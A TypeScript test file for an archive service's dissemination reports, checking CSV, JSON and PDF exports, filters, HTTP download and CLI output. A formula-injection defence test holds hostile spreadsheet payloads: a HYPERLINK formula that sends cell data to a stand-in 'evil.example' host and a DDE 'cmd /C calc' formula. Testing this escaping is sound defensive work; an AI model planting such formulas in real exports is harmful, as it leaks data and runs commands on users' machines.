/**
 * Dissemination reports from the event log: a known fixture (events written through the store as
 * the contract specifies them) exported as CSV (parsed back), JSON (validated against
 * resources/schemas/dissemination-report.schema.json), PDF (text extracted with pdftotext, pages
 * rendered with pdftoppm); filters; the empty report; atomic export; the CLI on stdout; the HTTP
 * download with its token; and 100,000 rows exported in a child process with bounded memory.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { z } from 'zod';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ReportRow } from '../../src-shared/domain/dissemination';
import type { ReportDocument } from '../../src-shared/domain/report';
import { startHttpServer, type HttpServer } from '../../src-main/transport/http';
import { MISSING_GLYPH } from '../../src-main/service/reports/pdf';
import { writeDisseminations, type FixtureDissemination } from '../helpers/report-fixture';
import { startService } from '../helpers/service';
import { repoRoot, requireOrSkip, tempDir } from '../helpers/util';

type Started = Awaited<ReturnType<typeof startService>>;
let s: Started;
let http: HttpServer;
const out = tempDir('fonds-reports-');
const artifacts = path.join(repoRoot, 'tests', 'artifacts');
const schema = JSON.parse(fs.readFileSync(path.join(repoRoot, 'resources/schemas/dissemination-report.schema.json'), 'utf8'));
const validator = z.fromJSONSchema(schema);
const hasPoppler = spawnSync('pdftotext', ['-v']).status === 0 && spawnSync('pdftoppm', ['-v']).status === 0;

const LONG_NAME = 'Orthophotographie départementale de la Haute-Garonne, millésime 2025, dalles de 1 km × 1 km au pas de 20 cm, reprojetées en Lambert-93 avec métadonnées ISO 19115 complètes';
const U = (n: number) => `URN:FEATURE:DATA:project1:0000000${n}-aaaa-bbbb-cccc-000000000000:V1`;

/** The fixture: every path a dissemination can take, dated, in January 2026 (and around it). */
const FIXTURE: FixtureDissemination[] = [
  // DONE, acknowledged over AMQP after 2 h
  { id: 'd1', urn: U(1), productName: 'Carte de Saint-Étienne', recipientLabel: 'Bibliothèque nationale de France', ackRequired: true, requestedAt: '2026-01-05T10:00:00.000Z',
    steps: [{ type: 'sent', at: '2026-01-05T10:01:00.000Z', bytes: 1000, files: 2, fixity: 'verified' }, { type: 'acknowledged', at: '2026-01-05T12:00:00.000Z', via: 'amqp' }] },
  // DONE without acknowledgement required (auto: acknowledgedAt = requestedAt)
  { id: 'd2', urn: U(2), productName: 'Plan cadastral', recipientLabel: 'Tromsø byarkiv', ackRequired: false, requestedAt: '2026-01-06T08:00:00.000Z',
    steps: [{ type: 'sent', at: '2026-01-06T08:00:30.000Z', bytes: 2500, files: 3, fixity: 'verified' }] },
  // WAITING_ACK
  { id: 'd3', urn: U(3), productName: 'Ærø kystlinje', recipientLabel: 'Tromsø byarkiv', ackRequired: true, requestedAt: '2026-01-07T09:00:00.000Z',
    steps: [{ type: 'sent', at: '2026-01-07T09:05:00.000Z', bytes: 4000, files: 1, fixity: 'not-applicable' }] },
  // PENDING, with a damaged-copy note (not a row change)
  { id: 'd4', urn: U(4), productName: LONG_NAME, recipientLabel: 'Bibliothèque nationale de France', ackRequired: true, requestedAt: '2026-01-10T00:00:00.000Z',
    steps: [{ type: 'damaged', at: '2026-01-10T00:10:00.000Z', path: 'a.tif', reason: 'sha256 differs' }] },
  // FAILED after two attempts; the error has a comma, quotes and a line break
  { id: 'd5', urn: U(5), productName: 'Réseau hydrographique', recipientLabel: 'Région Île-de-France', ackRequired: true, requestedAt: '2026-01-12T10:00:00.000Z',
    steps: [
      { type: 'failed', at: '2026-01-12T10:01:00.000Z', error: 'timeout', final: false, attempt: 1 },
      { type: 'retried', at: '2026-01-12T10:01:00.000Z', attempt: 2, by: 'policy' },
      { type: 'failed', at: '2026-01-12T10:05:00.000Z', error: 'HTTP 503, "Service Unavailable"\nretry later', final: true, attempt: 2 },
    ] },
  // FAILED, retried by hand, delivered, acknowledged by webhook after 30 min: DONE with 3 attempts
  { id: 'd6', urn: U(6), productName: 'Orthophoto Bodø', recipientLabel: 'Région Île-de-France', ackRequired: true, requestedAt: '2026-01-20T10:00:00.000Z',
    steps: [
      { type: 'failed', at: '2026-01-20T10:01:00.000Z', error: 'ECONNRESET', final: false, attempt: 1 },
      { type: 'retried', at: '2026-01-20T10:01:00.000Z', attempt: 2, by: 'policy' },
      { type: 'failed', at: '2026-01-20T10:02:00.000Z', error: 'ECONNRESET', final: true, attempt: 2 },
      { type: 'retried', at: '2026-01-20T11:00:00.000Z', attempt: 3, by: 'archivist' },
      { type: 'sent', at: '2026-01-20T11:00:10.000Z', bytes: 10_000, files: 5, fixity: 'verified', attempt: 3 },
      { type: 'acknowledged', at: '2026-01-20T11:30:00.000Z', via: 'webhook' },
    ] },
  // requested in the period, acknowledged after it: WAITING_ACK as of the period's end
  { id: 'd7', urn: U(7), productName: 'Fin de mois', recipientLabel: 'Bibliothèque nationale de France', ackRequired: true, requestedAt: '2026-01-31T23:00:00.000Z',
    steps: [{ type: 'sent', at: '2026-01-31T23:10:00.000Z', bytes: 7, files: 1, fixity: 'verified' }, { type: 'acknowledged', at: '2026-02-01T01:00:00.000Z', via: 'manual' }] },
  // another tenant
  { id: 'd8', urn: 'URN:FEATURE:DATA:project2:00000008-aaaa-bbbb-cccc-000000000000:V1', productName: 'Autre tenant', tenant: 'project2', recipientLabel: 'CNES Toulouse', requestedAt: '2026-01-15T00:00:00.000Z',
    steps: [{ type: 'sent', at: '2026-01-15T00:01:00.000Z', bytes: 100, files: 1, fixity: 'verified' }] },
  // outside the period (before and after)
  { id: 'd0', urn: U(9), productName: 'Décembre', recipientLabel: 'CNES Toulouse', requestedAt: '2025-12-31T23:59:59.999Z' },
  { id: 'd9', urn: U(9), productName: 'Février', recipientLabel: 'CNES Toulouse', requestedAt: '2026-02-01T00:00:00.000Z' },
];
const JANUARY = { from: '2026-01-01', to: '2026-01-31' };

/** What the January report must hold, in request order. */
const EXPECTED: ReportRow[] = [
  { urn: U(1), productName: 'Carte de Saint-Étienne', tenant: 'project1', recipientLabel: 'Bibliothèque nationale de France', requestedAt: '2026-01-05T10:00:00.000Z', sentAt: '2026-01-05T10:01:00.000Z', acknowledgedAt: '2026-01-05T12:00:00.000Z', ackVia: 'amqp', status: 'DONE', bytes: 1000, files: 2, fixity: 'verified', attempts: 1, lastError: null },
  { urn: U(2), productName: 'Plan cadastral', tenant: 'project1', recipientLabel: 'Tromsø byarkiv', requestedAt: '2026-01-06T08:00:00.000Z', sentAt: '2026-01-06T08:00:30.000Z', acknowledgedAt: '2026-01-06T08:00:00.000Z', ackVia: 'auto', status: 'DONE', bytes: 2500, files: 3, fixity: 'verified', attempts: 1, lastError: null },
  { urn: U(3), productName: 'Ærø kystlinje', tenant: 'project1', recipientLabel: 'Tromsø byarkiv', requestedAt: '2026-01-07T09:00:00.000Z', sentAt: '2026-01-07T09:05:00.000Z', acknowledgedAt: null, ackVia: null, status: 'WAITING_ACK', bytes: 4000, files: 1, fixity: 'not-applicable', attempts: 1, lastError: null },
  { urn: U(4), productName: LONG_NAME, tenant: 'project1', recipientLabel: 'Bibliothèque nationale de France', requestedAt: '2026-01-10T00:00:00.000Z', sentAt: null, acknowledgedAt: null, ackVia: null, status: 'PENDING', bytes: 0, files: 0, fixity: null, attempts: 0, lastError: null },
  { urn: U(5), productName: 'Réseau hydrographique', tenant: 'project1', recipientLabel: 'Région Île-de-France', requestedAt: '2026-01-12T10:00:00.000Z', sentAt: null, acknowledgedAt: null, ackVia: null, status: 'FAILED', bytes: 0, files: 0, fixity: null, attempts: 2, lastError: 'HTTP 503, "Service Unavailable"\nretry later' },
  { urn: 'URN:FEATURE:DATA:project2:00000008-aaaa-bbbb-cccc-000000000000:V1', productName: 'Autre tenant', tenant: 'project2', recipientLabel: 'CNES Toulouse', requestedAt: '2026-01-15T00:00:00.000Z', sentAt: '2026-01-15T00:01:00.000Z', acknowledgedAt: '2026-01-15T00:00:00.000Z', ackVia: 'auto', status: 'DONE', bytes: 100, files: 1, fixity: 'verified', attempts: 1, lastError: null },
  { urn: U(6), productName: 'Orthophoto Bodø', tenant: 'project1', recipientLabel: 'Région Île-de-France', requestedAt: '2026-01-20T10:00:00.000Z', sentAt: '2026-01-20T11:00:10.000Z', acknowledgedAt: '2026-01-20T11:30:00.000Z', ackVia: 'webhook', status: 'DONE', bytes: 10_000, files: 5, fixity: 'verified', attempts: 3, lastError: 'ECONNRESET' },
  { urn: U(7), productName: 'Fin de mois', tenant: 'project1', recipientLabel: 'Bibliothèque nationale de France', requestedAt: '2026-01-31T23:00:00.000Z', sentAt: '2026-01-31T23:10:00.000Z', acknowledgedAt: null, ackVia: null, status: 'WAITING_ACK', bytes: 7, files: 1, fixity: 'verified', attempts: 1, lastError: null },
];

/** CSV cells are strings: the expected rows as csv-parse gives them back. */
const asCsv = (r: ReportRow) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, v === null ? '' : String(v)]));

beforeAll(async () => {
  s = await startService();
  writeDisseminations(s.service.internals.store, FIXTURE, [
    // an acknowledgement that matched nothing: not a dissemination, never a row
    { at: '2026-01-08T00:00:00.000Z', objectId: '.unmatched-acks', type: 'dissemination.ack-unmatched', payload: { urn: U(1), recipientLabel: 'Nobody', tenant: '', via: 'amqp', reason: 'unknown recipient' } },
  ]);
  http = await startHttpServer({ service: s.service, host: '127.0.0.1', port: 0, token: s.service.token, maxBodyBytes: 1 << 20 });
  fs.mkdirSync(artifacts, { recursive: true });
});

afterAll(async () => {
  await http?.close();
  await s?.dispose();
  fs.rmSync(out, { recursive: true, force: true });
});

const exportTo = (name: string, input: Record<string, unknown>) =>
  s.service.call('reports.export', { path: path.join(out, name), ...input } as never) as Promise<{ path: string; rows: number; bytes: number; pages?: number }>;

describe('a report folds the event log into one row per dissemination', () => {
  it('previews the summary and the first rows of January, status as of the end of the period', async () => {
    const p = await s.service.call('reports.preview', { filters: JANUARY, limit: 100 });
    expect(p.rows).toEqual(EXPECTED);
    expect(p.summary.total).toBe(8);
    expect(p.summary.byStatus).toEqual({ PENDING: 1, WAITING_ACK: 2, DONE: 4, FAILED: 1 });
    expect(p.summary.totalBytes).toBe(1000 + 2500 + 4000 + 100 + 10_000 + 7);
    expect(p.summary.totalFiles).toBe(2 + 3 + 1 + 1 + 5 + 1);
    // acknowledged by their recipient: d1 (2 h) and d6 (1 h 30); auto acknowledgements do not count
    expect(p.summary.timeToAck).toEqual({ count: 2, medianMs: (2 * 3600_000 + 5400_000) / 2, p95Ms: 2 * 3600_000 });
    expect(p.summary.byRecipient.map((r) => [r.recipientLabel, r.total])).toEqual([
      ['Bibliothèque nationale de France', 3],
      ['Région Île-de-France', 2],
      ['Tromsø byarkiv', 2],
      ['CNES Toulouse', 1],
    ]);
    expect(p.summary.timeline.unit).toBe('day');
    expect(p.summary.timeline.buckets).toHaveLength(31);
    expect(p.summary.timeline.buckets.find((b) => b.start === '2026-01-12')?.byStatus.FAILED).toBe(1);
    const limited = await s.service.call('reports.preview', { filters: JANUARY, limit: 3 });
    expect(limited.rows).toEqual(EXPECTED.slice(0, 3));
    expect(limited.summary.total).toBe(8);
  });

  it('without an end date the later acknowledgement counts; the period bounds are whole UTC days', async () => {
    const p = await s.service.call('reports.preview', { filters: { from: '2026-01-31' } });
    expect(p.rows.map((r) => [r.urn, r.status])).toEqual([
      [U(7), 'DONE'],
      [U(9), 'PENDING'],
    ]);
    const dec = await s.service.call('reports.preview', { filters: { to: '2025-12-31' } });
    expect(dec.rows.map((r) => r.productName)).toEqual(['Décembre']);
  });

  it('filters by recipients, products, URN prefix, status and tenant', async () => {
    const rows = async (filters: Record<string, unknown>) => (await s.service.call('reports.preview', { filters: { ...JANUARY, ...filters } as never, limit: 100 })).rows.map((r) => r.urn);
    expect(await rows({ recipients: ['Tromsø byarkiv'] })).toEqual([U(2), U(3)]);
    expect(await rows({ recipients: ['Tromsø byarkiv', 'CNES Toulouse'] })).toHaveLength(3);
    expect(await rows({ urns: [U(5), U(6)] })).toEqual([U(5), U(6)]);
    expect(await rows({ urnPrefix: 'URN:FEATURE:DATA:project2:' })).toHaveLength(1);
    expect(await rows({ statuses: ['WAITING_ACK'] })).toEqual([U(3), U(7)]);
    expect(await rows({ statuses: ['FAILED', 'PENDING'] })).toEqual([U(4), U(5)]);
    expect(await rows({ tenant: 'project2' })).toHaveLength(1);
    expect(await rows({ tenant: 'project1', statuses: ['DONE'], recipients: ['Région Île-de-France'] })).toEqual([U(6)]);
    const summary = (await s.service.call('reports.preview', { filters: { ...JANUARY, statuses: ['DONE'] } })).summary;
    expect(summary.byStatus).toEqual({ PENDING: 0, WAITING_ACK: 0, DONE: 4, FAILED: 0 });
  });

  it('refuses bad filters, naming the field', async () => {
    await expect(s.service.call('reports.preview', { filters: { from: '2026-02-30' } })).rejects.toThrow(/filters\.from: not a calendar date/);
    await expect(s.service.call('reports.preview', { filters: { from: '2026-02-01', to: '2026-01-01' } })).rejects.toThrow(/filters\.to: from must not be after to/);
    await expect(s.service.call('reports.preview', { filters: { statuses: ['LOST'] } } as never)).rejects.toThrow(/filters\.statuses/);
  });
});

describe('CSV export', () => {
  it('is RFC 4180 and parses back to the fixture rows', async () => {
    const r = await exportTo('jan.csv', { filters: JANUARY, format: 'csv' });
    expect(r.rows).toBe(8);
    const text = fs.readFileSync(r.path, 'utf8');
    expect(text.startsWith('urn,productName,tenant,recipientLabel,requestedAt,sentAt,acknowledgedAt,ackVia,status,bytes,files,fixity,attempts,lastError\r\n')).toBe(true);
    expect(text).toContain('"HTTP 503, ""Service Unavailable""\nretry later"');
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    const rows = parseCsv(text, { columns: true, record_delimiter: '\r\n' });
    expect(rows).toEqual(EXPECTED.map(asCsv));
    expect(fs.readdirSync(out).filter((f) => f.includes('fonds-part'))).toEqual([]);
  });

  it('starts with a BOM when asked, for spreadsheets', async () => {
    const r = await exportTo('jan-bom.csv', { filters: JANUARY, format: 'csv', bom: true });
    const buf = fs.readFileSync(r.path);
    expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parseCsv(buf, { columns: true, bom: true })).toEqual(EXPECTED.map(asCsv));
  });

  it('writes atomically and never over a file unless told to', async () => {
    const target = path.join(out, 'keep.csv');
    fs.writeFileSync(target, 'mine');
    await expect(exportTo('keep.csv', { filters: JANUARY, format: 'csv' })).rejects.toThrow(/exists/);
    expect(fs.readFileSync(target, 'utf8')).toBe('mine');
    await exportTo('keep.csv', { filters: JANUARY, format: 'csv', overwrite: true });
    expect(fs.readFileSync(target, 'utf8')).toMatch(/^urn,/);
    await expect(s.service.call('reports.export', { path: 'relative.csv', format: 'csv' })).rejects.toThrow(/absolute path/);
    await expect(s.service.call('reports.export', { path: out, format: 'csv', overwrite: true })).rejects.toThrow(/is a folder/);
    expect(fs.readdirSync(out).filter((f) => f.includes('fonds-part'))).toEqual([]);
  });
});

describe('CSV export against formula injection (OWASP)', () => {
  it("writes a text cell that would start a formula with a leading ' inside quotes, and never changes a number", async () => {
    const own = await startService();
    try {
      const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
      const evilLabel = '@SUM(1+1)*cmd|" /C calc"!A0';
      writeDisseminations(own.service.internals.store, [
        { id: 'e1', urn: U(1), productName: evilName, recipientLabel: evilLabel, requestedAt: '2026-03-02T10:00:00.000Z',
          steps: [{ type: 'sent', at: '2026-03-02T10:01:00.000Z', bytes: 42, files: 1, fixity: 'verified' }] },
        { id: 'e2', urn: U(2), productName: '+33 1 23 45 67 89', recipientLabel: '-minus', requestedAt: '2026-03-03T10:00:00.000Z',
          steps: [{ type: 'failed', at: '2026-03-03T10:01:00.000Z', error: '-1 bytes left', final: true, attempt: 1 }] },
        { id: 'e3', urn: U(3), productName: '\tTabbed', recipientLabel: '\rReturn', requestedAt: '2026-03-04T10:00:00.000Z' },
        { id: 'e4', urn: U(4), productName: '＝ＳＵＭ(1)', recipientLabel: 'a=b, @ inside is fine', requestedAt: '2026-03-05T10:00:00.000Z',
          // numbers are never text cells, even negative (the event log is Fonds' own: none is, in practice)
          steps: [{ type: 'sent', at: '2026-03-05T10:01:00.000Z', bytes: -5, files: 0, fixity: 'verified' }] },
      ]);
      const target = path.join(out, 'formulas.csv');
      await own.service.call('reports.export', { path: target, format: 'csv', filters: { from: '2026-03-01', to: '2026-03-31' } });
      const text = fs.readFileSync(target, 'utf8');
      const lines = text.split('\r\n');
      expect(lines[1]).toBe(`${U(1)},"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",project1,"'@SUM(1+1)*cmd|"" /C calc""!A0",2026-03-02T10:00:00.000Z,2026-03-02T10:01:00.000Z,2026-03-02T10:00:00.000Z,auto,DONE,42,1,verified,1,`);
      expect(lines[2]).toBe(`${U(2)},"'+33 1 23 45 67 89",project1,"'-minus",2026-03-03T10:00:00.000Z,,,,FAILED,0,0,,1,"'-1 bytes left"`);
      expect(lines[4]).toBe(`${U(4)},"'＝ＳＵＭ(1)",project1,"a=b, @ inside is fine",2026-03-05T10:00:00.000Z,2026-03-05T10:01:00.000Z,2026-03-05T10:00:00.000Z,auto,DONE,-5,0,verified,1,`);
      const rows = parseCsv(text, { columns: true, record_delimiter: '\r\n' }) as Array<Record<string, string>>;
      expect(rows.map((r) => [r.productName, r.recipientLabel])).toEqual([
        [`'${evilName}`, `'${evilLabel}`],
        ["'+33 1 23 45 67 89", "'-minus"],
        ["'\tTabbed", "'\rReturn"],
        ["'＝ＳＵＭ(1)", 'a=b, @ inside is fine'],
      ]);
      expect(rows.map((r) => [r.bytes, r.files, r.attempts])).toEqual([
        ['42', '1', '1'],
        ['0', '0', '1'],
        ['0', '0', '0'],
        ['-5', '0', '1'],
      ]);
      // the JSON export carries the values as they are
      const json = path.join(out, 'formulas.json');
      await own.service.call('reports.export', { path: json, format: 'json', filters: { from: '2026-03-01', to: '2026-03-31' } });
      const doc = JSON.parse(fs.readFileSync(json, 'utf8')) as ReportDocument;
      expect(doc.rows.map((r) => r.productName)).toEqual([evilName, '+33 1 23 45 67 89', '\tTabbed', '＝ＳＵＭ(1)']);
    } finally {
      await own.dispose();
    }
  });
});

describe('JSON export', () => {
  it('matches its JSON Schema and holds the fixture rows and summary', async () => {
    const r = await exportTo('jan.json', { filters: JANUARY, format: 'json' });
    const doc = JSON.parse(fs.readFileSync(r.path, 'utf8')) as ReportDocument;
    const checked = validator.safeParse(doc);
    expect(checked.error?.issues ?? []).toEqual([]);
    expect(doc.report).toBe('dissemination');
    expect(doc.rows).toEqual(EXPECTED);
    expect(doc.filters).toEqual({ ...JANUARY, recipients: [], urns: [], statuses: [] });
    expect(doc.summary.byStatus.DONE).toBe(4);
  });

  it('the schema refuses a document that breaks it (the check can fail)', async () => {
    const doc = JSON.parse(fs.readFileSync(path.join(out, 'jan.json'), 'utf8'));
    expect(validator.safeParse({ ...doc, rows: [{ ...doc.rows[0], status: 'LOST' }] }).success).toBe(false);
    expect(validator.safeParse({ ...doc, rows: [{ ...doc.rows[0], bytes: -1 }] }).success).toBe(false);
    const { summary: _summary, ...noSummary } = doc;
    expect(validator.safeParse(noSummary).success).toBe(false);
  });
});

function pdfText(file: string, page?: number): string {
  const args = ['-layout', ...(page ? ['-f', String(page), '-l', String(page)] : []), file, '-'];
  const r = spawnSync('pdftotext', args, { encoding: 'utf8' });
  expect(r.status).toBe(0);
  return r.stdout;
}

function renderPages(file: string, prefix: string): string[] {
  const r = spawnSync('pdftoppm', ['-r', '70', '-png', file, prefix], { encoding: 'utf8' });
  expect(r.status, r.stderr).toBe(0);
  const dir = path.dirname(prefix);
  return fs.readdirSync(dir).filter((f) => f.startsWith(path.basename(prefix)) && f.endsWith('.png')).sort().map((f) => path.join(dir, f));
}

describe.runIf(requireOrSkip(hasPoppler, 'pdftotext and pdftoppm (apt-get install poppler-utils)'))('PDF export', () => {
  it('has a title, the filters, the summary, a chart, the detail table and "Page n of N", with accents', async () => {
    const r = await exportTo('jan.pdf', { filters: { ...JANUARY, recipients: [] }, format: 'pdf' });
    expect(r.pages).toBe(2);
    expect(fs.readFileSync(r.path).subarray(0, 5).toString()).toBe('%PDF-');
    const first = pdfText(r.path, 1);
    expect(first).toContain('Dissemination report');
    expect(first).toMatch(/2026-01-01 – 2026-01-31/);
    expect(first).toMatch(/Generated \d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} UTC/);
    expect(first).toMatch(/Disseminations\s+8/);
    expect(first).toMatch(/Waiting for ack\s+2/);
    expect(first).toContain('Time to acknowledgement, median');
    expect(first).toMatch(/1 h 45 min/);
    expect(first).toContain('Disseminations requested per day');
    expect(first).toContain('Page 1 of 2');
    const detail = pdfText(r.path, 2);
    expect(detail).toContain('Page 2 of 2');
    for (const word of ['Bibliothèque', 'Tromsø', 'Ærø', 'Île-de-France', 'Bodø', 'Saint-Étienne']) expect(detail).toContain(word);
    // the long name wraps to two lines and ends with an ellipsis instead of running over
    expect(detail).toContain('Orthophotographie');
    expect(detail).toContain('…');
    expect(detail).not.toContain('ISO 19115 complètes');
    expect(detail).toMatch(/HTTP 503, "Service/);
    const pages = renderPages(r.path, path.join(out, 'jan-page'));
    expect(pages).toHaveLength(2);
    for (const [i, p] of pages.entries()) {
      expect(fs.statSync(p).size).toBeGreaterThan(10_000);
      fs.copyFileSync(p, path.join(artifacts, `reports-pdf-page-${i + 1}.png`));
    }
  });

  it('repeats the table header on every page and numbers them all', async () => {
    const many: FixtureDissemination[] = Array.from({ length: 60 }, (_, i) => ({
      id: `m${i}`, urn: `URN:FEATURE:DATA:project1:many-${i}:V1`, productName: `Dalle ${i}`, recipientLabel: 'Nasjonalbiblioteket', requestedAt: `2026-03-0${1 + (i % 9)}T10:00:00.000Z`,
    }));
    writeDisseminations(s.service.internals.store, many);
    const r = await exportTo('march.pdf', { filters: { from: '2026-03-01', to: '2026-03-31' }, format: 'pdf', lang: 'fr' });
    expect(r.rows).toBe(60);
    expect(r.pages).toBe(1 + Math.ceil(60 / 24));
    const all = pdfText(r.path);
    expect(all.match(/Dernière erreur/g)).toHaveLength(r.pages! - 1);
    for (let n = 1; n <= r.pages!; n++) expect(all).toContain(`Page ${n} sur ${r.pages}`);
    expect(all).toContain('Rapport de diffusion');
    expect(renderPages(r.path, path.join(out, 'march-page'))).toHaveLength(r.pages!);
  });

  it('shows a character its font cannot draw as a visible mark, never a silent blank', async () => {
    writeDisseminations(s.service.internals.store, [{ id: 'cjk', urn: 'URN:FEATURE:DATA:project1:cjk-1:V1', productName: 'Ōsaka 東京 Привет', recipientLabel: 'Tōkyō 国立', requestedAt: '2026-06-02T10:00:00.000Z' }]);
    const r = await exportTo('june.pdf', { filters: { from: '2026-06-01', to: '2026-06-30' }, format: 'pdf' });
    const detail = pdfText(r.path, 2);
    expect(detail).toContain(`Ōsaka ${MISSING_GLYPH.repeat(2)} Привет`);
    expect(detail).toContain(`Tōkyō ${MISSING_GLYPH.repeat(2)}`);
    // the CSV keeps every character
    expect(fs.readFileSync((await exportTo('june.csv', { filters: { from: '2026-06-01', to: '2026-06-30' }, format: 'csv' })).path, 'utf8')).toContain('Ōsaka 東京 Привет');
  });

  it('an empty report says so on one page', async () => {
    const r = await exportTo('empty.pdf', { filters: { from: '1999-01-01', to: '1999-01-31' }, format: 'pdf' });
    expect(r).toMatchObject({ rows: 0, pages: 1 });
    const text = pdfText(r.path);
    expect(text).toContain('No dissemination matches these filters.');
    expect(text).toContain('Page 1 of 1');
    const [png] = renderPages(r.path, path.join(out, 'empty-page'));
    fs.copyFileSync(png, path.join(artifacts, 'reports-pdf-empty.png'));
  });
});

describe('the empty report', () => {
  it('is a header-only CSV and a JSON document with no rows that matches the schema', async () => {
    const csv = await exportTo('empty.csv', { filters: { from: '1999-01-01', to: '1999-01-31' }, format: 'csv' });
    expect(fs.readFileSync(csv.path, 'utf8').split('\r\n')).toEqual(['urn,productName,tenant,recipientLabel,requestedAt,sentAt,acknowledgedAt,ackVia,status,bytes,files,fixity,attempts,lastError', '']);
    const json = await exportTo('empty.json', { filters: { from: '1999-01-01', to: '1999-01-31' }, format: 'json' });
    const doc = JSON.parse(fs.readFileSync(json.path, 'utf8'));
    expect(validator.safeParse(doc).success).toBe(true);
    expect(doc.rows).toEqual([]);
    expect(doc.summary).toMatchObject({ total: 0, firstRequestedAt: null, timeToAck: { count: 0, medianMs: null, p95Ms: null } });
  });
});

describe('HTTP download', () => {
  const get = (q: string, token: string | undefined = s.service.token, ext = 'csv') =>
    fetch(`${http.url}/api/reports/dissemination.${ext}?${q}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });

  it('streams the report as an attachment with the bearer token', async () => {
    const res = await get('from=2026-01-01&to=2026-01-31&bom=1');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="dissemination-report_2026-01-01_2026-01-31.csv"');
    const body = Buffer.from(await res.arrayBuffer());
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parseCsv(body, { columns: true, bom: true })).toEqual(EXPECTED.map(asCsv));
  });

  it('takes repeated recipients and statuses, and serves JSON and PDF', async () => {
    const json = await get('from=2026-01-01&to=2026-01-31&recipient=Troms%C3%B8%20byarkiv&recipient=CNES%20Toulouse&status=DONE', undefined, 'json');
    const doc = (await json.json()) as ReportDocument;
    expect(doc.rows.map((r) => r.urn)).toEqual([U(2), EXPECTED[5].urn]);
    const pdf = await get('from=2026-01-01&to=2026-01-31', undefined, 'pdf');
    expect(pdf.headers.get('content-type')).toBe('application/pdf');
    expect(Buffer.from(await pdf.arrayBuffer()).subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('refuses a missing token and bad filters before sending anything', async () => {
    expect((await get('from=2026-01-01', '')).status).toBe(401);
    expect((await get('from=2026-01-01', 'wrong-token-wrong-token')).status).toBe(401);
    const bad = await get('from=2026-13-01');
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { message: string } }).error.message).toMatch(/filters\.from/);
    expect((await get('', undefined, 'xlsx')).status).toBe(404);
  });
});

function fonds(...args: string[]) {
  const r = spawnSync(process.execPath, ['--import', 'tsx', path.join(repoRoot, 'src-main/cli/index.ts'), ...args], { encoding: 'utf8', timeout: 120_000, maxBuffer: 64 << 20 });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

describe('fonds report', () => {
  it('writes CSV and JSON to stdout, beside the running service (read-only, no lock)', () => {
    const csv = fonds('report', '--data-dir', s.dataDir, '--from', '2026-01-01', '--to', '2026-01-31', '--format', 'csv');
    expect(csv.err).toBe('');
    expect(csv.code).toBe(0);
    expect(parseCsv(csv.out, { columns: true })).toEqual(EXPECTED.map(asCsv));
    const json = fonds('report', '--data-dir', s.dataDir, '--from', '2026-01-01', '--to', '2026-01-31', '--status', 'waiting_ack', '--format', 'json');
    expect(json.code).toBe(0);
    expect(JSON.parse(json.out).rows.map((r: ReportRow) => r.urn)).toEqual([U(3), U(7)]);
  });

  it('writes a PDF to --output, and exits 2 on usage errors', () => {
    const file = path.join(out, 'cli.pdf');
    const r = fonds('report', '--data-dir', s.dataDir, '--from', '2026-01-01', '--to', '2026-01-31', '--recipient', 'Tromsø byarkiv', '--format', 'pdf', '--output', file);
    expect(r.code).toBe(0);
    expect(r.err).toMatch(/Wrote .*cli\.pdf: 2 rows, \d+ bytes, 2 pages \(pdf\)/);
    expect(fs.readFileSync(file).subarray(0, 5).toString()).toBe('%PDF-');
    expect(fonds('report', '--data-dir', s.dataDir, '--format', 'pdf').err).toMatch(/--format pdf needs --output FILE/);
    expect(fonds('report', '--data-dir', s.dataDir, '--format', 'pdf').code).toBe(2);
    expect(fonds('report', '--data-dir', s.dataDir).code).toBe(2);
    const bad = fonds('report', '--data-dir', s.dataDir, '--format', 'csv', '--from', '2026-1-1');
    expect(bad.code).toBe(2);
    expect(bad.err).toMatch(/--from: expected a date YYYY-MM-DD/);
    expect(fonds('report', '--data-dir', path.join(out, 'nowhere'), '--format', 'csv').code).toBe(2);
  });
});

describe('100,000 rows', () => {
  it('export to CSV, JSON and PDF in a child process with memory bounded', async () => {
    const dataDir = tempDir('fonds-reports-100k-');
    try {
      // a heap of 192 MB at most: an export that kept its rows would not fit and fail; without a
      // cap V8 lets garbage pile up when the machine is busy (the PDF's RSS once grew by 190 MB in
      // CI, 85 MB alone), which says nothing about what the export holds
      const child = (...args: string[]) => {
        const r = spawnSync(process.execPath, ['--expose-gc', '--max-old-space-size=192', '--import', 'tsx', path.join(repoRoot, 'tests/helpers/report-child.ts'), ...args], {
          encoding: 'utf8',
          timeout: 600_000,
        });
        expect(r.status, r.stderr).toBe(0);
        return JSON.parse(r.stdout.trim().split('\n').pop()!);
      };
      expect(child('generate', dataDir, '100000')).toMatchObject({ disseminations: 100_000 });
      for (const format of ['csv', 'json', 'pdf']) {
        const m = child('export', dataDir, format, path.join(dataDir, `big.${format}`));
        console.log(`100k ${format}: ${m.rows} rows, ${(m.bytes / 1e6).toFixed(1)} MB, ${m.seconds.toFixed(1)} s, RSS +${m.rssGrowthMb.toFixed(0)} MB (peak ${m.peakRssMb.toFixed(0)} MB), heap +${m.heapGrowthMb.toFixed(0)} MB`);
        expect(m.rows).toBe(100_000);
        expect(m.rssGrowthMb).toBeLessThan(150);
      }
      // the CSV holds every row once, in request order
      const lines = fs.readFileSync(path.join(dataDir, 'big.csv'), 'utf8').split('\r\n');
      expect(lines).toHaveLength(100_002);
      expect(lines[1]).toMatch(/^URN:FEATURE:DATA:project1:00000000-/);
      expect(lines[100_000]).toMatch(/^URN:FEATURE:DATA:project1:00099999-/);
    } finally {
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  }, 900_000);
});
